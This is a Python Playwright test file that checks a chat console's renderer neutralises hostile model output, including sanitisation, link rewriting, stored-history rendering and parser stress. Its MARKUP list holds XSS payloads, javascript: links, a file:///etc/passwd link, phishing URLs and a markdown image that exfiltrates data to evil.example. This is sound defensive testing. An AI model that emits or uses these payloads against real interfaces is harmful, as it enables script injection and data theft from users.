"""Threat 14: what a model writes is never run, never fetched, and never leads astray unseen."""

import json

import pytest
from playwright.async_api import Page, expect

from tests.browser.scripted_console import Console, ScriptedModel
from tests.browser.test_chat import ask

pytestmark = pytest.mark.anyio

MARKUP = (
    "<img src=https://evil.example/a.png onerror=alert(1)>",
    "<script>document.body.dataset.hit = 1</script>",
    "<svg onload=alert(1)><style>*{display:none}</style></svg>",
    "<iframe src=https://evil.example></iframe><a href=javascript:alert(1)>x</a>",
    "![secret](https://evil.example/steal?data=secret)",
    "![a][b]\n\n[b]: https://evil.example/b.png",
    "[click](javascript:alert(document.cookie))",
    "[click](JaVaScRiPt:alert(1)) [x](data:text/html,<script>alert(1)</script>)",
    "[bank](https://bank.example@evil.example/) <https://user:pass@evil.example/>",
    "[x](vbscript:x) [y](file:///etc/passwd) [z](//evil.example/x) [w](/console/logout)",
    "`<img src=x onerror=alert(1)>`",
    "| <img src=https://evil.example/c> | b |\n|---|---|\n| ![d](https://evil.example/d) | x |",
    "```html\n<script src=https://evil.example/e.js></script>\n```",
    "# <b onmouseover=alert(1)>heading</b>",
    '[t](https://ok.example/ "onclick=alert(1)")',
    "[https://bank.example](https://evil.example/login)",
)
ALLOWED = {
    *("p", "br", "h3", "h4", "h5", "h6", "ul", "ol", "li", "blockquote", "hr", "a", "span", "s"),
    *("strong", "em", "code", "pre", "figure", "figcaption", "button", "div"),
    *("table", "thead", "tbody", "tr", "th", "td"),
}
ATTRIBUTES = {
    *("href", "rel", "target", "class", "tabindex", "role", "aria-label", "scope", "start"),
    *("type", "data-copy"),
}
# Addresses that stand in the text for all to read may be followed by who chooses to.
LINKS = {
    "https://ok.example/",
    "https://evil.example/login",
    "https://evil.example/a.png",
    "https://evil.example/b.png",
    "https://evil.example/c",
    "https://evil.example/",
}

_INSPECT = """() => [...document.querySelectorAll('.prose *')].map(node => ({
  tag: node.localName,
  attributes: Object.fromEntries([...node.attributes].map(a => [a.name, a.value])),
}))"""


@pytest.mark.parametrize("size", [1, 3, 10_000])
async def test_hostile_output_stays_text_however_it_is_cut(
    signed_in: Page, console: Console, size: int
) -> None:
    whole = "\n\n".join(MARKUP)
    pieces = tuple(whole[at : at + size] for at in range(0, len(whole), size))
    console.model = ScriptedModel(pieces=pieces)
    dialogs: list[str] = []
    signed_in.on("dialog", lambda dialog: dialogs.append(dialog.message))
    await ask(signed_in, "Attack me")
    await expect(signed_in.locator("details.receipt")).to_be_visible()
    nodes = await signed_in.evaluate(_INSPECT)
    assert {node["tag"] for node in nodes} <= ALLOWED
    for node in nodes:
        assert set(node["attributes"]) <= ATTRIBUTES, node
    links = [node["attributes"] for node in nodes if node["tag"] == "a"]
    assert {link["href"] for link in links} == LINKS
    assert {link["rel"] for link in links} == {"noopener noreferrer nofollow"}
    prose = signed_in.locator(".prose")
    await expect(prose).to_contain_text("<script>document.body.dataset.hit = 1</script>")
    # A label may lie about where it leads; the host beside it does not.
    await expect(prose).to_contain_text("https://bank.example (evil.example)")
    await expect(prose).to_contain_text("[image not shown: secret]")
    assert dialogs == []
    assert await signed_in.evaluate("document.body.dataset.hit") is None
    # That no request left for another host is checked when the context closes.


async def test_a_hostile_history_is_drawn_as_safely(signed_in: Page, console: Console) -> None:
    owner = console.admin[0].id
    turns = [
        {"role": "user", "content": "<img src=x onerror=alert(1)>"},
        {
            "role": "assistant",
            "model": "<b>m</b>",
            "content": "<img src=https://evil.example/x>",
            "reasoning": "<script>1</script>",
            "receipt": {"summary": "<i>s</i>", "rows": [["<u>a</u>", "<u>b</u>"]], "url": "/x"},
            "error": {"message": "<b>bad</b>", "hint": "<b>worse</b>"},
        },
    ]
    await signed_in.evaluate(
        "([key, value]) => sessionStorage.setItem(key, value)",
        [f"basket.chat.{owner}", json.dumps(turns)],
    )
    await signed_in.reload()
    await expect(signed_in.locator("#log")).to_contain_text("<b>worse</b>")
    assert await signed_in.locator("#log :is(img, script, b, i, u)").count() == 0


async def test_long_answers_of_one_sign_do_not_hang_the_page(
    signed_in: Page, console: Console
) -> None:
    """Emphasis, brackets and nesting that never close are where such readers go quadratic."""
    signs = ("*a ", "_a ", "[", "![", "`", "> ", "- ", "~~a ", "<", "(", "**a* ", "|a\n|-\n")
    console.model = ScriptedModel(pieces=tuple(sign * 4000 + "\n\n" for sign in signs))
    await ask(signed_in, "Stress")
    await expect(signed_in.locator("details.receipt")).to_be_visible(timeout=20_000)
